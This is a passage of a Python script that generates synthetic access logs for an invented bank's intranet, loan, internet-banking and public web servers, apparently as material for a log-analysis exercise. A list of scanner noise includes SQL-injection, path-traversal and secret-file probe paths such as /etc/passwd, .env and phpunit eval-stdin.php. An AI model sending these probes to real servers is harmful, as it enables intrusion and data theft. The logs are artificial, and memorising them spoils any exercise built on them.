"""Draws the access logs of an invented regional bank, Setonami Bank (瀬戸波銀行).

    python bank.py --seed 7 --days 35 --out DIR

Twelve branches with tellers and loan officers, a call centre (day and night), headquarters, an intranet customer system on two
IIS servers, a loan workflow, the customers' internet banking behind a load balancer, the public site, and in each branch a small
server for the reception tablets. All names, numbers and addresses are made up; the same seed and days give the same bytes.
"""

from __future__ import annotations

import argparse
import gzip
import io
import json
import math
import random
from dataclasses import dataclass, field
from datetime import date, datetime, timedelta
from pathlib import Path
from typing import Callable

HOLIDAYS = {
    date(2026, m, d)
    for m, d in [
        (2, 11),
        (2, 23),
        (3, 20),
        (4, 29),
        (5, 3),
        (5, 4),
        (5, 5),
        (5, 6),
        (7, 20),
        (8, 11),
        (9, 21),
        (9, 22),
        (9, 23),
        (10, 12),
        (11, 3),
        (11, 23),
    ]
}
BRANCHES = [
    ("201", "本店営業部", 1.5),
    ("202", "港町支店", 1.0),
    ("203", "東浜支店", 0.8),
    ("205", "駅前支店", 1.4),
    ("208", "城下支店", 0.9),
    ("211", "緑ヶ丘支店", 0.7),
    ("214", "西島支店", 0.45),
    ("217", "大橋支店", 0.9),
    ("220", "北山支店", 0.5),
    ("223", "工業団地支店", 0.8),
    ("226", "南台支店", 0.7),
    ("230", "玉島口支店", 0.55),
]
NAME_OF = {c: n for c, n, _ in BRANCHES}
SUR = "佐藤 鈴木 高橋 田中 渡辺 伊藤 山本 中村 小林 加藤 吉田 山田 三宅 藤原 岡本 難波 平松 石井 原田 大森 妹尾 片山 守屋 赤木 景山 浅野 森下 小野 黒田 秋山".split()
GIV = "陽子 健一 美咲 翔太 直樹 香織 恵 拓也 裕子 大輔 真由美 亮 千尋 浩二 彩 優 和也 理恵 誠 純 智子 隆 由佳 剛 舞 修 春香 学 典子 樹".split()
EDGE = "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/{0}.0.0.0 Safari/537.36 Edg/{0}.0.0.0"
CHROME = "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/{0}.0.0.0 Safari/537.36"
UAS = [
    EDGE.format(138),
    EDGE.format(139),
    CHROME.format(138),
    CHROME.format(139),
    CHROME.format(136),
    "Mozilla/5.0 (Macintosh; Intel Mac OS X 10_15_7) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/18.4 Safari/605.1.15",
    "Mozilla/5.0 (Windows NT 10.0; Win64; x64; rv:140.0) Gecko/20100101 Firefox/140.0",
]
MOB = [
    "SetonamiApp/4.2.1 (iPhone; iOS 18.5; Scale/3.00)",
    "SetonamiApp/4.2.1 (Android 15; SO-51E)",
    "SetonamiApp/4.1.7 (Android 14; Pixel 8a)",
    "Mozilla/5.0 (iPhone; CPU iPhone OS 18_5 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/18.5 Mobile/15E148 Safari/604.1",
    "Mozilla/5.0 (Linux; Android 10; K) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/138.0.0.0 Mobile Safari/537.36",
]
HOME = [
    "126.{}.{}",
    "153.{}.{}",
    "118.{}.{}",
    "60.{}.{}",
    "219.{}.{}",
    "180.{}.{}",
    "122.{}.{}",
    "221.{}.{}",
]
CARRIER = ["49.98.{}", "110.163.{}", "106.128.{}", "106.133.{}", "126.166.{}", "133.106.{}"]
BOTS = [
    (
        "66.249.66.{}",
        "Mozilla/5.0 (compatible; Googlebot/2.1; +http://www.google.com/bot.html)",
        90,
    ),
    ("40.77.167.{}", "Mozilla/5.0 (compatible; bingbot/2.0; +http://www.bing.com/bingbot.htm)", 50),
    (
        "17.241.75.{}",
        "Mozilla/5.0 (Macintosh; Intel Mac OS X 10_15_5) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/13.1.1 Safari/605.1.15 "
        "(Applebot/0.1; +http://www.apple.com/go/applebot)",
        14,
    ),
    (
        "185.191.171.{}",
        "Mozilla/5.0 (compatible; SemrushBot/7~bl; +http://www.semrush.com/bot.html)",
        25,
    ),
]
PAGES = [
    "/",
    "/kojin/",
    "/kojin/yokin/",
    "/kojin/loan/",
    "/kojin/loan/jutaku.html",
    "/hojin/",
    "/hojin/yushi/",
    "/loan/simulator/",
    "/branch/",
    "/branch/atm.html",
    "/news/",
    "/news/2026/kinri.html",
    "/ir/",
    "/ir/disclosure.html",
    "/company/",
    "/faq/",
    "/ib/about.html",
    "/kojin/nisa/",
    "/reserve/",
    "/sitemap.xml",
]
NOISE = [
    "/wp-login.php",
    "/.env",
    "/.git/config",
    "/phpmyadmin/index.php",
    "/actuator/health",
    "/boaform/admin/formLogin",
    "/cgi-bin/luci/",
    "/xmlrpc.php",
    "/vendor/phpunit/phpunit/src/Util/PHP/eval-stdin.php",
    "/solr/admin/info/system",
    "/owa/auth/logon.aspx",
    "/manager/html",
    "/HNAP1",
    "/admin/",
    "/?id=1%27%20OR%20%271%27=%271",
    "/../../../../etc/passwd",
    "/index.php?lang=../../../../tmp/x",
]


@dataclass
class Person:
    """Somebody, or something, that signs in to the intranet."""

    num: str
    name: str
    dept: str
    branch: str
    role: str
    ip: str
    ua: str
    rate: float
    days: tuple[int, ...] = (0, 1, 2, 3, 4)
    start: float = 8.6
    end: float = 17.8
    joined: date = date(2015, 4, 1)
    left: date | None = None
    off: set[date] = field(default_factory=set)
    port: list[str] = field(default_factory=list)
    company: str = "瀬戸波銀行"
    kind: str = "staff"
    helps: dict[date, str] = field(default_factory=dict)

    @property
    def ad(self) -> str:
        """The account as IIS writes it."""
        return self.num if self.num.startswith("SETO") else f"SETO\\{self.num}"


@dataclass
class Customer:
    """A customer with an internet banking contract."""

    uid: str
    accts: list[str]
    ip: str
    cell: str
    ua: str
    mob: str
    weight: float
    mobile: float


@dataclass
class Note:
    """An incident or an annoyance; days, sites and lines are filled by what is really written."""

    what: str
    why: str
    actors: list[str]
    grade: str = ""
    family: str = ""
    woken: bool = True
    days: set[date] = field(default_factory=set)
    sites: set[str] = field(default_factory=set)
    lines: int = 0


class Bank:
    """The world: draws people, plans what happens, then writes day after day."""

    def __init__(self, seed: int, n: int, out: Path) -> None:
        self.r = random.Random(seed)
        self.seed, self.n, self.outdir = seed, n, out
        last = date(2026, 4, 30) + timedelta(days=self.r.randrange(215))
        self.days = [last - timedelta(days=n - 1 - i) for i in range(n)]
        self.t0 = datetime.combine(self.days[0], datetime.min.time())
        self.t1 = self.t0 + timedelta(days=n)
        self.buf: dict[tuple[str, date], list[tuple[datetime, int, str]]] = {}
        self.seq = 0
        self.tag: Note | None = None
        self.incidents: list[Note] = []
        self.annoy: list[Note] = []
        self.plan: dict[date, list[tuple[Note | None, Callable[[date], None]]]] = {
            d: [] for d in self.days
        }
        self.pre: dict[date, list[Callable[[], None]]] = {d: [] for d in self.days}
        self.mute: list[tuple[str, str, datetime, datetime]] = []
        self.fail: list[tuple[str, str, datetime, datetime, float, int, Note | None]] = []
        self.closed: dict[date, set[str]] = {}
        self.boost: dict[tuple[str, date], float] = {}
        self.skip: dict[tuple[str, date], bool] = {}
        self.subnet_from: dict[str, date] = {}
        self.priv: list[list[str]] = []
        self.used: set[str] = set()
        self.busydays: set[date] = set()
        self.aged: dict[str, str] = {}
        self.crmcase: dict[str, list[str]] = {}
        self.casenote: list[str] = []
        self.make_people()
        self.make_customers()

    # ---- small helpers -------------------------------------------------------------------------------------------------------
    def workday(self, d: date) -> bool:
        """Banks open on weekdays that are no holiday."""
        return d.weekday() < 5 and d not in HOLIDAYS

    def at(self, d: date, h: float) -> datetime:
        """Day and hour (26.5 is half past two on the next morning) as an instant in Japan."""
        return datetime.combine(d, datetime.min.time()) + timedelta(milliseconds=int(h * 3600000))

    def count(self, mean: float, k: float = 3.0) -> int:
        """An overdispersed count (a Poisson whose mean is gamma)."""
        lam = mean * self.r.gammavariate(k, 1 / k)
        if lam > 40:
            return max(0, round(self.r.gauss(lam, math.sqrt(lam))))
        limit, k2, p = math.exp(-lam), 0, self.r.random()
        while p > limit:
            k2 += 1
            p *= self.r.random()
        return k2

    def pub(self) -> str:
        """A home line's address."""
        r = self.r
        return (
            r.choice(HOME).format(r.randrange(1, 250), r.randrange(1, 250))
            + f".{r.randrange(2, 250)}"
        )

    def foreign(self) -> str:
        """A hosting company's address."""
        r = self.r
        return (
            r.choice(["45.134.{}", "91.219.{}", "193.37.{}", "146.70.{}", "5.188.{}"]).format(
                r.randrange(1, 250)
            )
            + f".{r.randrange(2, 250)}"
        )

    def factor(self, d: date) -> float:
        """How busy the bank is: gotobi, pay day, month end, Mondays, before and after holidays, Obon."""
        f = {5: 1.12, 10: 1.15, 15: 1.2, 20: 1.15, 25: 1.4}.get(d.day, 1.0)
        f *= (
            1.35
            if (d + timedelta(days=1)).day == 1
            or (
                self.workday(d)
                and not self.workday(d + timedelta(1))
                and (d + timedelta(3)).day <= 3
            )
            else 1
        )
        f *= 1.1 if d.weekday() == 0 else 1
        f *= 1.12 if d.weekday() < 4 and not self.workday(d + timedelta(1)) else 1
        f *= 0.75 if d.month == 8 and 12 <= d.day <= 16 else 1
        return min(f, 1.65)

    def cif(self, branch: str | None = None) -> str:
        """Some customer, of this branch or of any; a few come often."""
        b = branch or self.r.choices([c for c, _, _ in BRANCHES], [w for _, _, w in BRANCHES])[0]
        pool = self.pool[b]
        return pool[int(len(pool) * self.r.random() ** 2.0)]

    def other(self, branch: str) -> str:
        """A branch that is not this one."""
        return self.r.choice([c for c, _, _ in BRANCHES if c != branch])

    # ---- who there is --------------------------------------------------------------------------------------------------------
    def make_people(self) -> None:
        """Staff, agents of the outsourced call centre, accounts of machines."""
        r = self.r
        self.people: list[Person] = []
        nums = r.sample(range(10100, 13900), 260)

        def add(dept: str, branch: str, role: str, ip: str, **kw: object) -> Person:
            num = kw.pop("num", None) or f"b{nums.pop()}"
            p = Person(
                num,
                r.choice(SUR) + " " + r.choice(GIV),
                dept,
                branch,
                role,
                ip,
                EDGE.format(r.choice([137, 138, 138, 138])),
                min(2.6, r.lognormvariate(-0.08, 0.42)),
                joined=date(r.randrange(1998, 2025), 4, 1),
                **kw,
            )
            self.people.append(p)
            return p

        for i, (c, nm, w) in enumerate(BRANCHES):
            net = f"10.20.{i + 1}."
            for j in range(3 + round(3 * w)):
                part = j >= 2 and r.random() < 0.4
                kw = (
                    {"days": tuple(sorted(r.sample(range(5), 3))), "start": 9.0, "end": 15.6}
                    if part
                    else {}
                )
                add(f"{nm}窓口課", c, "part" if part else "teller", f"{net}{11 + j}", **kw)
            for j in range(2 + round(2.2 * w)):
                add(f"{nm}融資渉外課", c, "officer", f"{net}{41 + j}", end=18.6)
            add(f"{nm}管理職", c, "manager", f"{net}{71}", end=18.4)
            add(f"{nm}管理職", c, "deputy", f"{net}{72}", end=18.8)
        for dept, role, k, net in [
            ("コンプライアンス統括部", "compliance", 6, 1),
            ("監査部", "audit", 4, 2),
            ("事務集中部", "centre", 10, 3),
            ("営業企画部", "marketing", 5, 4),
            ("審査部", "review", 8, 5),
            ("システム部", "it", 6, 6),
            ("人事部", "personnel", 3, 7),
        ]:
            for j in range(k):
                add(dept, "HQ", role, f"10.10.{net}.{21 + j}", end=18.5)
        self.cc: list[Person] = []
        for j in range(26):
            p = add(
                "コールセンター",
                "CC",
                "agent",
                f"10.40.1.{11 + j}",
                num=f"cc{101 + j * 3 + r.randrange(3)}",
                kind="contractor",
                company="テレリンク瀬戸株式会社",
            )
            p.days = tuple(sorted(r.sample(range(7), r.choice([3, 4, 4, 5]))))
            p.start, p.end = [(9.0, 17.0), (9.0, 17.0), (13.0, 21.0), (10.0, 16.0)][j % 4]
            if j >= 21:
                p.role, p.start, p.end = "night", 21.0, 33.0
                p.days = [(0, 2, 4), (1, 3, 5), (6, 2, 4), (0, 3, 5), (1, 6)][j - 21]
            self.cc.append(p)
        self.sv = add("コールセンター", "CC", "sv", "10.40.1.90", num="cc190", kind="staff")
        self.svc = {
            k: Person(
                f"SETO\\svc_{k}",
                k,
                "システム部",
                "HQ",
                "svc",
                f"10.10.200.{i + 11}",
                u,
                1.0,
                kind="system",
            )
            for i, (k, u) in enumerate(
                [
                    ("batch", "SetonamiBatch/2.8 Java/17.0.11"),
                    ("aml", "AmlConnector/3.1"),
                    ("monitor", "Zabbix"),
                ]
            )
        }
        for p in self.people:
            for d in self.days:
                rate = 0.14 if d.month == 8 and 10 <= d.day <= 18 else 0.05
                if r.random() < rate:
                    p.off.update(
                        {d}
                        if r.random() < 0.7
                        else {d + timedelta(k) for k in range(r.randrange(2, 6))}
                    )

    def make_customers(self) -> None:
        """Customer numbers of each branch, portfolios, internet banking contracts, loan applications."""
        r = self.r
        self.pool: dict[str, list[str]] = {}
        for c, _, w in BRANCHES:
            v, xs = 1000000 + r.randrange(9000), []
            for _i in range(int(2600 * w) + 900):
                v += 1 + int(r.expovariate(0.06))
                xs.append(f"{c}-{v}")
            r.shuffle(xs)
            self.pool[c] = xs
        self.sorted_pool = {c: sorted(x) for c, x in self.pool.items()}
        for p in self.people:
            if p.role in ("officer", "manager", "deputy"):
                p.port = r.sample(self.pool[p.branch], 60)
        self.staffcif = {
            p.num: r.choice(self.pool[p.branch if p.branch in NAME_OF else "201"][900:])
            for p in self.people
            if p.branch != "CC"
        }
        self.vips = [r.choice(self.pool[c][900:]) for c in ("201", "205", "208")]
        self.decoys = [f"{c}-{1999000 + r.randrange(900)}" for c in ("203", "217")]
        self.cust: list[Customer] = []
        for u in sorted(r.sample(range(70010000, 70990000), 2300)):
            b = r.choice(BRANCHES)[0]
            k = r.choice([1, 1, 1, 2, 2, 3])
            self.cust.append(
                Customer(
                    str(u),
                    [f"{b}-{3000000 + r.randrange(400000)}" for _ in range(k)],
                    self.pub(),
                    r.choice(CARRIER).format(r.randrange(256)),
                    r.choice(UAS),
                    r.choice(MOB),
                    r.paretovariate(1.3),
                    r.choice([0.1, 0.5, 0.9, 1]),
                )
            )
        self.cust_by = {c.uid: c for c in self.cust}
        self.acct_owner = sorted(a for c in self.cust for a in c.accts)
        self.cases: dict[str, list[str]] = {c: [] for c, _, _ in BRANCHES}
        self.case_no = 0
        for c, _, w in BRANCHES:
            for _i in range(int(16 * w) + 3):
                self.new_case(c, self.days[0] - timedelta(r.randrange(1, 30)))

    def new_case(self, branch: str, d: date) -> str:
        """A new loan application of a branch (the number holds the branch)."""
        self.case_no += 1
        no = f"L{d:%y%m%d}-{branch}-{self.case_no % 10000:04d}"
        self.cases[branch] = ([no] + self.cases[branch])[:40]
        return no

    def take(
        self, roles: tuple[str, ...], pred: Callable[[Person], bool] = lambda p: True
    ) -> Person:
        """Somebody of such a role to whom nothing else is planned."""
        free = [
            p
            for p in self.people
            if p.role in roles and p.num not in self.used and not p.left and pred(p)
        ]
        p = self.r.choice(free)
        self.used.add(p.num)
        return p

    def takec(self) -> Customer:
        """A customer to whom nothing else is planned."""
        while True:
            c = self.r.choice(self.cust)
            if c.uid not in self.used:
                self.used.add(c.uid)
                return c

    # ---- writing lines -------------------------------------------------------------------------------------------------------
    def out(self, site: str, name: str, fday: date, t: datetime, line: str) -> None:
        """Keeps one line for its file unless the log was silent; counts it for what is being played."""
        if not self.t0 <= t < self.t1:
            return
        if any(site == s and part in name and a <= t < b for s, part, a, b in self.mute):
            return
        self.seq += 1
        self.buf.setdefault((name, fday), []).append((t, self.seq, line))
        if self.tag is not None:
            self.mark(self.tag, site, t)

    def mark(self, note: Note, site: str, t: datetime) -> None:
        """One more line of this note."""
        note.lines += 1
        note.days.add(t.date())
        note.sites.add(site)

    def status(self, site: str, path: str, t: datetime, status: int) -> int:
        """What the server really answered: it may have trouble just now."""
        for s, pre, a, b, p, st, note in self.fail:
            if s == site and path.startswith(pre) and a <= t < b and self.r.random() < p:
                if note is not None and self.t0 <= t < self.t1:
                    self.mark(note, site, t)
                return st
        return 500 if self.r.random() < 0.0015 else status

    def crm(
        self,
        t: datetime,
        user: str | None,
        ip: str,
        ua: str,
        method: str,
        path: str,
        status: int = 200,
        size: int = 0,
        query: str = "-",
        ref: str = "-",
    ) -> None:
        """One line of the intranet customer system (IIS, UTC, two servers, a person stays on one)."""
        r = self.r
        status = self.status("crm", path, t, status)
        node = 1 + (ip.rsplit(".", 1)[1] in self.node2 if not user else sum(map(ord, user)) % 2)
        u = t - timedelta(hours=9)
        size = size or int(r.lognormvariate(9.1, 0.5))
        who = user or "-"
        line = (
            f"{u:%Y-%m-%d %H:%M:%S} 10.10.100.{10 + node} {method} {path} {query} 443 {who} {ip} {ua.replace(' ', '+')} {ref} {status} 0 0 "
            f"{size if status < 400 else 1245} {max(3, int(r.lognormvariate(4.4, 0.8)))}"
        )
        self.out("crm", f"crm/web0{node}/u_ex{{:%y%m%d}}.log", u.date(), t, line)

    node2 = {"12", "14", "42", "44", "72"}

    def cti(
        self,
        t: datetime,
        user: str | None,
        ip: str,
        method: str,
        path: str,
        status: int = 200,
        ua: str = "",
    ) -> None:
        """One line of the call centre's screen (LTSV)."""
        r = self.r
        status = self.status("cti", path, t, status)
        line = (
            f"time:[{t:%d/%b/%Y:%H:%M:%S} +0900]\thost:{ip}\tuser:{user or '-'}\treq:{method} {path} HTTP/1.1\tstatus:{status}\tsize:"
            f"{int(r.lognormvariate(8.3, 0.5))}\treqtime_us:{int(r.lognormvariate(11.2, 0.7))}\treferer:-\tua:{ua or CHROME.format(136)}"
        )
        self.out("cti", "cti/cti_access.{:%Y%m%d}.ltsv", t.date(), t, line)

    def loan(
        self,
        t: datetime,
        user: str | None,
        ip: str,
        ua: str,
        method: str,
        path: str,
        status: int = 200,
        ref: str = "-",
        sid: str = "-",
    ) -> None:
        """One line of the loan workflow (Apache, the house's own format)."""
        r = self.r
        status = self.status("loan", path, t, status)
        line = (
            f'{ip} {user or "-"} [{t:%d/%b/%Y:%H:%M:%S} +0900] "{method} {path} HTTP/1.1" {status} {int(r.lognormvariate(8.8, 0.6)) if status < 400 else 512} '
            f'{int(r.lognormvariate(11.8, 0.8))} "{ref}" "{ua}" {sid}'
        )
        self.out("loan", "loan/loan_access_log.{:%Y%m%d}", t.date(), t, line)

    def ib(
        self,
        t: datetime,
        user: str,
        ip: str,
        ua: str,
        method: str,
        path: str,
        status: int = 200,
        size: int = 0,
        sid: str = "",
        ref: str = "",
        direct: bool = False,
    ) -> int:
        """One line of internet banking (nginx JSON behind the load balancer); says the status that was written."""
        r = self.r
        status = self.status("ib", path, t, status)
        rec = {
            "time": f"{t:%Y-%m-%dT%H:%M:%S}+09:00",
            "remote_addr": r.choice(["10.60.0.11", "10.60.0.12"]),
            "xff": "" if direct else ip,
            "remote_user": user,
            "sid": sid,
            "host": "ib.setonami-bank.example",
            "request": f"{method} {path} HTTP/1.1",
            "status": status,
            "bytes": size or int(r.lognormvariate(7.8, 0.6)),
            "rt": 0,
            "referer": ref,
            "ua": ua,
        }
        line = json.dumps(rec, ensure_ascii=False, separators=(",", ":")).replace(
            '"rt":0', f'"rt":{r.lognormvariate(-2.4, 0.7):.3f}'
        )
        self.out("ib", "ib/ib-access-{:%Y-%m-%d}.json.gz", t.date(), t, line)
        return status

    def www(
        self,
        t: datetime,
        ip: str,
        ua: str,
        path: str,
        status: int = 200,
        size: int = 0,
        ref: str = "-",
        method: str = "GET",
        host: str = "www.setonami-bank.example",
    ) -> None:
        """One line of the public site (combined with vhost; rotated at ten past three)."""
        r = self.r
        status = self.status("www", path, t, status)
        size = size or (int(r.lognormvariate(9.4, 0.8)) if status == 200 else 196)
        line = f'{host}:443 {ip} - - [{t:%d/%b/%Y:%H:%M:%S} +0900] "{method} {path} HTTP/1.1" {status} {size} "{ref}" "{ua}"'
        self.out(
            "www",
            "www/access_log-{:%Y%m%d}.gz",
            (t - timedelta(hours=3, minutes=10)).date(),
            t,
            line,
        )

    def counter(
        self,
        t: datetime,
        branch: str,
        user: str | None,
        ip: str,
        ua: str,
        method: str,
        path: str,
        status: int = 200,
    ) -> None:
        """One line of a branch's reception server (Apache combined)."""
        line = (
            f'{ip} - {user or "-"} [{t:%d/%b/%Y:%H:%M:%S} +0900] "{method} {path} HTTP/1.1" {status} {int(self.r.lognormvariate(7, 0.5))} '
            f'"-" "{ua}"'
        )
        self.out(f"counter-{branch}", f"counter/{branch}/access.log.{{:%Y%m%d}}", t.date(), t, line)

    def flush(self, until: date, final: date) -> None:
        """Writes the files whose day is over, sorted by time."""
        for key in sorted(k for k in self.buf if k[1] <= until):
            name, day = key
            rows = sorted(self.buf.pop(key))
            text = "".join(x[2] + "\n" for x in rows)
            path = self.outdir / "logs" / name.format(day)
            if "/u_ex" in name:
                t = rows[0][0] - timedelta(hours=9)
                text = (
                    "#Software: Microsoft Internet Information Services 10.0\n#Version: 1.0\n"
                    f"#Date: {t:%Y-%m-%d %H:%M:%S}\n"
                    "#Fields: date time s-ip cs-method cs-uri-stem cs-uri-query s-port cs-username c-ip cs(User-Agent) cs(Referer) sc-status "
                    "sc-substatus sc-win32-status sc-bytes time-taken\n"
                ) + text
            if path.suffix == ".gz" and day >= final:
                path = path.with_suffix("")
            path.parent.mkdir(parents=True, exist_ok=True)
            data = text.encode()
            if path.suffix == ".gz":
                b = io.BytesIO()
                with gzip.GzipFile("", "wb", 6, b, mtime=0) as z:
                    z.write(data)
                data = b.getvalue()
            path.write_bytes(data)

    # ---- ordinary work -------------------------------------------------------------------------------------------------------
    def ip_of(self, p: Person, d: date) -> str:
        """Where somebody sits that day: a helper sits elsewhere, a branch may have moved."""
        b = p.helps.get(d, p.branch)
        if (
            p.role in ("compliance", "marketing", "review", "it")
            and p.num not in self.used
            and (int(p.num[1:]) + d.toordinal()) % 11 == 0
        ):
            return f"10.90.0.{20 + int(p.num[1:]) % 180}"
        if b in self.subnet_from and d >= self.subnet_from[b]:
            return (
                f"10.20.1{[c for c, _, _ in BRANCHES].index(b) + 1:02d}." + p.ip.rsplit(".", 1)[1]
            )
        if b != p.branch and b in NAME_OF:
            return f"10.20.{[c for c, _, _ in BRANCHES].index(b) + 1}.61"
        return p.ip

    def open_crm(self, t: datetime, p: Person, ip: str, ua: str = "") -> None:
        """Windows sign-on: a 401 without a name, then the start page."""
        ua = ua or self.aged.get(p.branch, p.ua)
        self.crm(t, None, ip, ua, "GET", "/crm/", 401)
        self.crm(t + timedelta(milliseconds=40), p.ad, ip, ua, "GET", "/crm/")
        if self.r.random() < 0.4:
            self.crm(
                t + timedelta(milliseconds=300), p.ad, ip, ua, "GET", "/crm/static/app.js", 304, 210
            )

    def look(
        self,
        t: datetime,
        p: Person,
        ip: str,
        subj: str,
        search: float = 0.6,
        acc: float = 0.5,
        tra: float = 0.3,
        memo: float = 0.12,
        ua: str = "",
    ) -> datetime:
        """Somebody opens a customer in the customer system; says when he is done."""
        r = self.r
        ua = ua or self.aged.get(p.branch, p.ua)
        base = f"/crm/customer/{subj}"
        if r.random() < search:
            self.crm(t, p.ad, ip, ua, "POST", "/crm/search")
            t += timedelta(seconds=r.uniform(3, 25))
        self.crm(
            t, p.ad, ip, ua, "GET", base, ref="https://crm.setonami.internal.example/crm/search"
        )
        for prob, tail, meth, st in [
            (acc, "/accounts", "GET", 200),
            (tra, "/transactions", "GET", 200),
            (memo, "/memo", "POST", 302),
        ]:
            if r.random() < prob:
                t += timedelta(seconds=r.uniform(5, 70))
                self.crm(
                    t,
                    p.ad,
                    ip,
                    ua,
                    meth,
                    base + tail,
                    st,
                    ref="https://crm.setonami.internal.example" + base,
                )
        return t

    def hours(self, p: Person, n: int, counter: bool) -> list[float]:
        """Instants of a working day: peaks before and after lunch."""
        r, hs = self.r, []
        for _ in range(n):
            h = (
                r.triangular(9, 15.2, 10.6)
                if counter and r.random() < 0.8
                else r.uniform(p.start + 0.1, p.end)
            )
            if 12 <= h < 13 and r.random() < 0.6:
                h += 1.3
            hs.append(min(h, p.end + 0.2))
        return sorted(hs)

    def present(self, p: Person, d: date) -> bool:
        """Is he at work?"""
        if d < p.joined or (p.left and d > p.left) or d in p.off or d.weekday() not in p.days:
            return False
        return (
            True
            if p.branch == "CC"
            else self.workday(d) and p.helps.get(d, p.branch) not in self.closed.get(d, set())
        )

    def crm_day(self, p: Person, d: date, scale: float = 1.0) -> None:
        """A person's day in the customer system, the loan workflow and at the reception server."""
        r, f, ip = self.r, self.factor(d) * scale, self.ip_of(p, d)
        b = p.helps.get(d, p.branch)
        w = next((x for c, _, x in BRANCHES if c == b), 1.0) ** 0.4
        mean = (
            {
                "teller": 12,
                "part": 10,
                "officer": 5.5,
                "manager": 3.5,
                "deputy": 6,
                "compliance": 7,
                "audit": 2.5,
                "centre": 22,
                "marketing": 1.5,
                "review": 3,
                "it": 0.6,
                "personnel": 0,
            }.get(p.role, 0)
            * p.rate
            * f
            * w
        )
        n = self.count(mean, 5)
        if n or r.random() < 0.5:
            self.open_crm(self.at(d, r.uniform(p.start - 0.25, p.start + 0.3)), p, ip)
        free = datetime.min
        for h in self.hours(p, n, p.role in ("teller", "part")):
            t = max(self.at(d, h), free)
            if p.role in ("teller", "part"):
                free = self.look(t, p, ip, self.cif(b if r.random() < 0.93 else None), acc=0.55)
            elif p.role in ("officer", "manager", "deputy"):
                s = (
                    p.port[int(60 * r.random() ** 1.8)]
                    if r.random() < 0.75
                    else self.cif(b if r.random() < 0.96 else None)
                )
                free = self.look(t, p, ip, s, search=0.35, acc=0.6, tra=0.35)
            elif p.role == "compliance":
                cs = self.crmcase.setdefault(p.num, [])
                if len(cs) < 4 or r.random() < 0.1:
                    cs.insert(0, self.cif())
                    del cs[4:]
                free = self.look(
                    t, p, ip, r.choice(cs) if r.random() < 0.7 else self.cif(), acc=0.7, tra=0.8
                )
            elif p.role == "centre":
                s = r.choice(list(self.staffcif.values())) if r.random() < 0.01 else self.cif()
                free = self.look(t, p, ip, s, search=0.2, acc=0.4, tra=0.1, memo=0.5)
            else:
                free = self.look(t, p, ip, self.cif())
        if p.role in ("officer", "manager", "deputy", "compliance", "centre") and r.random() < 0.06:
            for h in sorted(r.uniform(p.end, 20.3) for _ in range(r.randrange(1, 5))):
                self.look(self.at(d, h), p, ip, self.cif(b if b in NAME_OF else None), search=0.3)
        aged = self.aged.get(p.branch, p.ua)
        if p.role == "deputy" and d.day <= 3 and r.random() < 0.5:
            self.crm(
                self.at(d, r.uniform(9, 16)),
                p.ad,
                ip,
                aged,
                "GET",
                f"/crm/export/branch-{p.branch}-arrears.csv",
                size=int(r.lognormvariate(10.5, 0.3)),
            )
        if p.role in ("deputy", "manager", "officer") and r.random() < 0.4:
            self.crm(
                self.at(d, r.uniform(8.7, 10)), p.ad, ip, aged, "GET", f"/crm/branch/{b}/tasks"
            )
        if p.role == "marketing":
            for _ in range(self.count(2.2 * p.rate)):
                self.crm(
                    self.at(d, r.uniform(9, 18)),
                    p.ad,
                    ip,
                    aged,
                    "GET",
                    "/crm/segments",
                    query=f"age={r.choice([30, 40, 50, 60])}&product={r.choice(['nisa', 'loan', 'card'])}",
                )
            if d.weekday() == p.days[0] + int(p.num[1:]) % 5 and r.random() < 0.6:
                self.crm(
                    self.at(d, r.uniform(10, 17)),
                    p.ad,
                    ip,
                    aged,
                    "GET",
                    f"/crm/export/segment-{r.randrange(100, 180)}.csv",
                    size=int(r.lognormvariate(13.2, 0.5)),
                )
        if p.role == "it" and r.random() < 0.6:
            for _ in range(self.count(4)):
                self.crm(
                    self.at(d, r.uniform(9, 18)),
                    p.ad,
                    ip,
                    aged,
                    r.choice(["GET", "GET", "POST"]),
                    r.choice(["/crm/admin/users", "/crm/admin/jobs", "/crm/admin/log"]),
                )
        if p.role in ("officer", "review", "manager"):
            self.loan_day(
                p,
                d,
                ip,
                self.count({"officer": 2.6, "manager": 1.6, "review": 9}[p.role] * p.rate * f),
                b,
            )
        if p.role in ("teller", "part", "deputy") and b in NAME_OF:
            for _ in range(self.count(2.6 * f)):
                t = self.at(d, r.uniform(8.9, 15))
                self.counter(
                    t,
                    b,
                    p.num,
                    ip,
                    aged,
                    "GET",
                    f"/uketsuke/visit/{b}{t:%m%d}{r.randrange(1, 60):02d}",
                )

    def loan_day(self, p: Person, d: date, ip: str, n: int, b: str) -> None:
        """Loan applications: read the case, often ask the credit bureau straight after (from the case's page), decide."""
        if not n:
            return
        r, sid, ua = self.r, f"{self.r.getrandbits(80):020x}", self.aged.get(p.branch, p.ua)
        hs = self.hours(p, n, False)
        t = self.at(d, hs[0]) - timedelta(seconds=40)
        for _ in range(1 if r.random() < 0.05 else 0):
            self.loan(t - timedelta(seconds=12), p.num, ip, ua, "POST", "/loan/login", 401)
        self.loan(t, p.num, ip, ua, "POST", "/loan/login", 302, sid=sid)
        self.loan(t + timedelta(seconds=1), p.num, ip, ua, "GET", "/loan/cases", sid=sid)
        for h in hs:
            t = max(t + timedelta(seconds=20), self.at(d, h))
            bb = r.choice(BRANCHES)[0] if p.role == "review" else b
            no = (
                self.new_case(bb, d)
                if p.role == "officer" and r.random() < 0.15
                else self.cases[bb][int(len(self.cases[bb]) * r.random() ** 1.5)]
            )
            ref = f"https://loan.setonami.internal.example/loan/case/{no}"
            self.loan(
                t,
                p.num,
                ip,
                ua,
                "GET",
                f"/loan/case/{no}",
                ref="https://loan.setonami.internal.example/loan/cases",
                sid=sid,
            )
            if r.random() < (0.45 if p.role == "review" else 0.3):
                t += timedelta(seconds=r.uniform(10, 120))
                self.loan(t, p.num, ip, ua, "GET", f"/loan/credit/{no}", ref=ref, sid=sid)
            if r.random() < 0.3:
                t += timedelta(seconds=r.uniform(30, 400))
                self.loan(
                    t,
                    p.num,
                    ip,
                    ua,
                    "POST",
                    f"/loan/case/{no}/{'approve' if p.role != 'officer' else 'save'}",
                    302,
                    ref=ref,
                    sid=sid,
                )

    def call(self, t: datetime, p: Person, subj: str | None = None) -> None:
